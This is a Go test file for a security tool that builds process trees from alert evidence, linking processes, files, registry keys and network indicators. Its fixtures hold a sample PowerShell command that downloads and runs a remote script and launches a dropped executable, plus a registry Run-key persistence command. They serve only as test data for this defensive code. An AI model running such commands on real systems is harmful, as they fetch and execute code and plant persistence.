package workbench_test

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	. "workbench"
)

var treeStart = time.Date(2026, 3, 11, 8, 0, 0, 0, time.UTC)

// second is the moment that many seconds, to the nanosecond, after the tree began.
func second(s float64) Time { return At(treeStart.Add(time.Duration(s * float64(time.Second)))) }

// ran is a process of device d.
func ran(name string, pid int64, at Time, parent int64, parentAt Time) ProcessEvidence {
	p := ProcessEvidence{ProcessName: Text(name), ProcessID: &pid, StartedAt: at, ParentStartedAt: parentAt,
		EvidenceBase: EvidenceBase{ID: fmt.Sprintf("%s-%d-%s", name, pid, at.Format(time.RFC3339Nano)), AlertIDs: []string{"a"}, DeviceID: "d", Device: Text("host")}}
	if parent != 0 {
		p.ParentProcessID = &parent
	}
	return p
}

// outline writes a tree as one line a node: depth, kind, name, and ? for an edge that is a guess.
func outline(t ProcessTree) []string {
	depth, out := map[string]int{"": -1}, []string{}
	for _, n := range t.Nodes {
		depth[n.ID] = depth[n.ParentID] + 1
		line := fmt.Sprintf("%d %s %s", depth[n.ID], n.Kind, n.Name)
		if n.Inferred {
			line += " ?"
		}
		out = append(out, line)
	}
	return out
}

func TestBuildProcessTrees(t *testing.T) {
	none := Time{}
	office := ran("winword.exe", 20, second(10), 10, second(1))
	office.ParentName = Text("explorer.exe")
	tests := map[string]struct {
		processes []ProcessEvidence
		want      []string
	}{
		"a parent that is not reported is a gap": {[]ProcessEvidence{office}, []string{"0 gap explorer.exe", "1 process winword.exe"}},
		"children share a gap, siblings by time": {
			[]ProcessEvidence{ran("b", 22, second(12), 10, second(1)), office, ran("c", 23, second(11), 10, second(1))},
			[]string{"0 gap explorer.exe", "1 process winword.exe", "1 process c", "1 process b"}},
		"a process id used again is another process": {
			[]ProcessEvidence{ran("old", 7, second(1), 0, none), ran("new", 7, second(50), 0, none), ran("child", 8, second(60), 7, second(50)), ran("elder", 9, second(61), 7, second(1))},
			[]string{"0 process old", "1 process elder", "0 process new", "1 process child"}},
		"times of different precision are one": {
			[]ProcessEvidence{ran("parent", 7, second(1.1234567), 0, none), ran("child", 8, second(2), 7, second(1.123))},
			[]string{"0 process parent", "1 process child"}},
		"a parent without a start is the last before the child": {
			[]ProcessEvidence{ran("early", 7, second(1), 0, none), ran("late", 7, second(5), 0, none), ran("after", 7, second(20), 0, none), ran("child", 8, second(10), 7, none)},
			[]string{"0 process early", "0 process late", "1 process child ?", "0 process after"}},
		"a parent without a start and none before is a gap": {
			[]ProcessEvidence{ran("after", 7, second(20), 0, none), ran("child", 8, second(10), 7, none)},
			[]string{"0 gap ", "1 process child", "0 process after"}},
		"a child without a start is no reason to guess": {
			[]ProcessEvidence{ran("parent", 7, second(1), 0, none), ran("child", 8, none, 7, none)},
			[]string{"0 gap ", "1 process child", "0 process parent"}},
		"a parent that started later is none": {
			[]ProcessEvidence{ran("parent", 7, second(30), 0, none), ran("child", 8, second(10), 7, second(30))},
			[]string{"0 process child", "0 process parent"}},
		"clocks may differ by a second": {
			[]ProcessEvidence{ran("parent", 7, second(10.9), 0, none), ran("child", 8, second(10), 7, second(10.9))},
			[]string{"0 process parent", "1 process child"}},
		"a circle is cut at its first process": {
			[]ProcessEvidence{ran("a", 7, second(10), 8, second(10.5)), ran("b", 8, second(10.5), 7, second(10))},
			[]string{"0 process a", "1 process b"}},
		"nothing is its own parent": {[]ProcessEvidence{ran("a", 7, second(10), 7, second(10))}, []string{"0 process a"}},
		"programs that look alike stay apart": {
			[]ProcessEvidence{ran("powershell.exe", 31, second(3), 30, second(1)), ran("powershell.exe", 32, second(4), 30, second(1)), ran("cmd.exe", 30, second(1), 0, none)},
			[]string{"0 process cmd.exe", "1 process powershell.exe", "1 process powershell.exe"}},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			trees := BuildProcessTrees(Evidence{Processes: test.processes})
			if len(trees) != 1 || trees[0].DeviceID != "d" || trees[0].Device != Text("host") || !trees[0].Partial {
				t.Fatalf("got trees %+v, want one partial tree of device d", trees)
			}
			if diff := cmp.Diff(test.want, outline(trees[0])); diff != "" {
				t.Errorf("tree (-want +got):\n%s", diff)
			}
			for _, n := range trees[0].Nodes {
				if (n.ParentID == "" || n.Inferred || n.Kind == GapNode) != (n.Reason != "") {
					t.Errorf("%s: got reason %q", n.Name, n.Reason)
				}
			}
		})
	}
}

func TestTreesOfDevices(t *testing.T) {
	other := ran("other.exe", 20, second(2), 0, Time{})
	other.DeviceID = "c"
	lost := ran("lost.exe", 20, second(2), 0, Time{})
	lost.DeviceID = ""
	trees := BuildProcessTrees(Evidence{Processes: []ProcessEvidence{ran("a.exe", 20, second(2), 0, Time{}), other, lost}})
	var got []string
	for _, tree := range trees {
		got = append(got, fmt.Sprint(tree.DeviceID, len(tree.Nodes)))
	}
	if diff := cmp.Diff([]string{"c1", "d1", "unknown:a1"}, got); diff != "" {
		t.Errorf("trees (-want +got):\n%s", diff)
	}
}

func TestHanging(t *testing.T) {
	shell := ran("powershell.exe", 20, second(2), 0, Time{})
	shell.SHA256 = Text("AA")
	shell.CommandLine = Text(`powershell -c "IEX (iwr 'https://cdn.example/a/b.ps1?x=1&y=2')"; & C:\Temp\drop.exe 203.0.113.9:443`)
	reg := ran("reg.exe", 21, second(3), 20, second(2))
	reg.CommandLine = Text(`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d evil.dll`)
	base := func(id string) EvidenceBase {
		return EvidenceBase{ID: id, AlertIDs: []string{"a"}, DeviceID: "d", CreatedAt: second(30)}
	}
	nowhere := func(id string) EvidenceBase {
		b := base(id)
		b.DeviceID = ""
		return b
	}
	tests := map[string]struct {
		evidence Evidence
		under    string
	}{
		"a file with the hash of a program":     {Evidence{Files: []FileEvidence{{EvidenceBase: base("x"), FileName: Text("any"), SHA256: Text("aa")}}}, "powershell.exe"},
		"a file by its whole path":              {Evidence{Files: []FileEvidence{{EvidenceBase: base("x"), FileName: Text("DROP.exe"), FilePath: Text(`c:\temp`)}}}, "powershell.exe"},
		"not a file of the same name elsewhere": {Evidence{Files: []FileEvidence{{EvidenceBase: base("x"), FileName: Text("drop.exe"), FilePath: Text(`c:\windows`)}}}, ""},
		"a file named without a folder":         {Evidence{Files: []FileEvidence{{EvidenceBase: base("x"), FileName: Text("evil.dll"), FilePath: Text(`c:\windows`)}}}, "reg.exe"},
		"a file that nobody names":              {Evidence{Files: []FileEvidence{{EvidenceBase: base("x"), FileName: Text("other.dll")}}}, ""},
		"a registry key": {Evidence{Registry: []RegistryEvidence{{EvidenceBase: base("x"), Hive: Text("HKEY_CURRENT_USER"),
			Key: Text(`S-1-5-21-1-2-3-4\Software\Microsoft\Windows\CurrentVersion\Run`), Name: Text("Updater")}}}, "reg.exe"},
		"a URL":                        {Evidence{Network: []NetworkEvidence{{EvidenceBase: nowhere("x"), URL: Text("https://cdn.example/a/b.ps1?x=1&y=2")}}}, "powershell.exe"},
		"a domain":                     {Evidence{Network: []NetworkEvidence{{EvidenceBase: nowhere("x"), DNSName: Text("CDN.example.")}}}, "powershell.exe"},
		"an address":                   {Evidence{Network: []NetworkEvidence{{EvidenceBase: nowhere("x"), DestinationIP: Text("203.0.113.9")}}}, "powershell.exe"},
		"an address that nobody names": {Evidence{Network: []NetworkEvidence{{EvidenceBase: nowhere("x"), DestinationIP: Text("203.0.113.90")}}}, ""},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			test.evidence.Processes = []ProcessEvidence{reg, shell}
			tree := BuildProcessTrees(test.evidence)[0]
			names := map[string]string{}
			for _, n := range tree.Nodes {
				names[n.ID] = n.Name.Raw()
				if n.EvidenceID != "x" {
					continue
				}
				if got := names[n.ParentID]; got != test.under || !n.Inferred || n.Reason == "" || !n.StartedAt.IsZero() || n.RecordedAt != second(30) {
					t.Errorf("got %+v under %q, want it under %q, as a guess with a reason", n, got, test.under)
				}
			}
			if len(tree.Nodes) != 3 {
				t.Errorf("got %d nodes, want 3", len(tree.Nodes))
			}
		})
	}
	t.Run("an address of alerts with two devices is in no tree", func(t *testing.T) {
		elsewhere := ran("c.exe", 5, second(1), 0, Time{})
		elsewhere.DeviceID = "c"
		e := Evidence{Processes: []ProcessEvidence{shell, elsewhere}, Network: []NetworkEvidence{{EvidenceBase: nowhere("x"), DestinationIP: Text("203.0.113.9")}}}
		for _, tree := range BuildProcessTrees(e) {
			if len(tree.Nodes) != 1 {
				t.Errorf("got %v, want the process alone", outline(tree))
			}
		}
	})
}

func TestForAlert(t *testing.T) {
	child := ran("child", 8, second(2), 7, second(1))
	child.AlertIDs = []string{"b"}
	tree := BuildProcessTrees(Evidence{Processes: []ProcessEvidence{ran("root", 7, second(1), 6, second(0)), child, ran("other", 9, second(3), 7, second(1))}})[0]
	if diff := cmp.Diff([]string{"0 gap ", "1 process root", "2 process child"}, outline(tree.ForAlert("b"))); diff != "" {
		t.Errorf("alert b (-want +got):\n%s", diff)
	}
	if got := tree.ForAlert("none"); len(got.Nodes) != 0 || got.Nodes == nil || got.Partial {
		t.Errorf("got %+v, want no nodes", got)
	}
}

// drawEvidence draws processes that often share ids and times, and name each other as parents, truly or not.
func drawEvidence(t *rapid.T) Evidence {
	var e Evidence
	n := rapid.IntRange(1, 40).Draw(t, "processes")
	for i := range n {
		moment := func(name string) Time {
			if rapid.IntRange(0, 9).Draw(t, name+" known") == 0 {
				return Time{}
			}
			return second(float64(rapid.IntRange(0, 8).Draw(t, name)) * 0.4)
		}
		p := ran(rapid.SampledFrom([]string{"a", "b", "c"}).Draw(t, "name"), int64(rapid.IntRange(1, 6).Draw(t, "pid")), moment("start"),
			int64(rapid.IntRange(0, 6).Draw(t, "parent")), moment("parent start"))
		p.ID, p.DeviceID = fmt.Sprint("p", i), rapid.SampledFrom([]DeviceKey{"d", "d", "d", "c", ""}).Draw(t, "device")
		p.Device = Untrusted{}
		p.CreatedAt = second(float64(100 + i))
		e.Processes = append(e.Processes, p)
	}
	for i := range rapid.IntRange(0, 10).Draw(t, "files") {
		e.Files = append(e.Files, FileEvidence{FileName: Text("file.exe"), EvidenceBase: EvidenceBase{ID: fmt.Sprint("f", i), DeviceID: "d", AlertIDs: []string{"a"}, CreatedAt: second(float64(i))}})
	}
	return e
}

func TestTreeProperties(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		e := drawEvidence(t)
		trees := BuildProcessTrees(e)
		type key struct {
			device string
			pid    int64
			at     int64
		}
		processes := map[key]int{}
		byID := map[string]ProcessEvidence{}
		unidentified := 0
		for _, p := range e.Processes {
			byID[p.ID] = p
			device := p.DeviceID
			if device == "" {
				device = "unknown:a"
			}
			if p.StartedAt.IsZero() {
				unidentified++
			} else {
				processes[key{string(device), *p.ProcessID, p.StartedAt.UnixMilli()}] = 0
			}
		}
		for _, tree := range trees {
			before := map[string]TreeNode{}
			for _, n := range tree.Nodes {
				parent, ok := before[n.ParentID]
				if n.ParentID != "" && !ok {
					t.Fatalf("%s stands before its parent, or in a circle", n.ID)
				}
				if _, twice := before[n.ID]; twice {
					t.Fatalf("%s stands twice", n.ID)
				}
				before[n.ID] = n
				if n.Kind != ProcessNode {
					if n.Kind == FileNode && n.ParentID != "" && !n.Inferred {
						t.Fatalf("the edge of file %s is not marked as a guess", n.ID)
					}
					continue
				}
				if n.StartedAt.IsZero() {
					unidentified--
				} else {
					processes[key{tree.DeviceID, *n.ProcessID, n.StartedAt.UnixMilli()}]++
				}
				if n.ParentID == "" {
					continue
				}
				checkParent(t, e, n, parent, tree.DeviceID)
			}
		}
		for k, times := range processes {
			if times != 1 {
				t.Fatalf("process %v stands %d times, want once", k, times)
			}
		}
		if unidentified != 0 {
			t.Fatalf("%d processes without a start are missing", unidentified)
		}
		shuffled := Evidence{Processes: slices.Clone(e.Processes), Files: slices.Clone(e.Files)}
		rng := rand.New(rand.NewPCG(1, uint64(len(e.Processes))))
		rng.Shuffle(len(shuffled.Processes), func(i, j int) {
			shuffled.Processes[i], shuffled.Processes[j] = shuffled.Processes[j], shuffled.Processes[i]
		})
		rng.Shuffle(len(shuffled.Files), func(i, j int) { shuffled.Files[i], shuffled.Files[j] = shuffled.Files[j], shuffled.Files[i] })
		if diff := cmp.Diff(trees, BuildProcessTrees(shuffled), untrusted); diff != "" {
			t.Fatalf("another order gives another tree (-first +shuffled):\n%s", diff)
		}
	})
}

// checkParent fails where no piece of evidence for the node's process names this parent.
func checkParent(t *rapid.T, e Evidence, n, parent TreeNode, device string) {
	for _, p := range e.Processes {
		same := p.ID == n.EvidenceID || !n.StartedAt.IsZero() && p.StartedAt == n.StartedAt && *p.ProcessID == *n.ProcessID && (string(p.DeviceID) == device || p.DeviceID == "" && device == "unknown:a")
		if !same || p.ParentProcessID == nil || *p.ParentProcessID != *parent.ProcessID {
			continue
		}
		if p.ParentStartedAt == parent.StartedAt || p.ParentStartedAt.IsZero() && n.Inferred && !parent.StartedAt.After(n.StartedAt.Time) {
			return
		}
	}
	t.Fatalf("nothing names %+v as the parent of %+v", parent, n)
}

// chain is a tree of n processes, each the parent of the next but every tenth a sibling, with a file for every fifth.
func chain(n int) Evidence {
	var e Evidence
	for i := range n {
		parent := max(i-1-i%10/9, 0)
		p := ran(fmt.Sprintf("p%d.exe", i), int64(i+1), second(float64(i)), int64(parent+1), second(float64(parent)))
		p.CommandLine = Text(fmt.Sprintf(`C:\Windows\p%d.exe --load "C:\Data\f%d.dll" https://host%d.example/x`, i, i, i))
		e.Processes = append(e.Processes, p)
		if i%5 == 0 {
			e.Files = append(e.Files, FileEvidence{FileName: Text(fmt.Sprintf("f%d.dll", i)), FilePath: Text(`C:\Data`), EvidenceBase: EvidenceBase{ID: fmt.Sprint("f", i), DeviceID: "d", AlertIDs: []string{"a"}}})
		}
	}
	return e
}

func TestDeepTree(t *testing.T) {
	e := chain(100_000)
	tree := BuildProcessTrees(e)[0]
	if got, want := len(tree.Nodes), len(e.Processes)+len(e.Files); got != want {
		t.Errorf("got %d nodes, want %d", got, want)
	}
	if got := len(tree.ForAlert("a").Nodes); got != len(tree.Nodes) {
		t.Errorf("got %d nodes of the only alert, want all %d", got, len(tree.Nodes))
	}
}

// BenchmarkTreeRatio prints how many times as long a tree of 5,000 processes takes as one of 100; 50 is linear, and more than 60 too much.
// Rounds of both sizes take turns, each building as many processes, so that what else the machine does and what building leaves behind
// burden both; their medians are compared. It runs on one processor: what the collector of garbage does beside it would otherwise cost the
// small trees nothing.
func BenchmarkTreeRatio(b *testing.B) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
	const rounds = 15
	small, large := chain(100), chain(5_000)
	timed := func(e Evidence, times int) time.Duration {
		start := time.Now()
		for range times {
			BuildProcessTrees(e)
		}
		return time.Since(start)
	}
	var ofSmall, ofLarge []time.Duration
	for b.Loop() {
		for range rounds {
			ofSmall, ofLarge = append(ofSmall, timed(small, 50)), append(ofLarge, timed(large, 1))
		}
	}
	slices.Sort(ofSmall)
	slices.Sort(ofLarge)
	b.ReportMetric(50*float64(ofLarge[len(ofLarge)/2])/float64(ofSmall[len(ofSmall)/2]), "times-as-long")
}
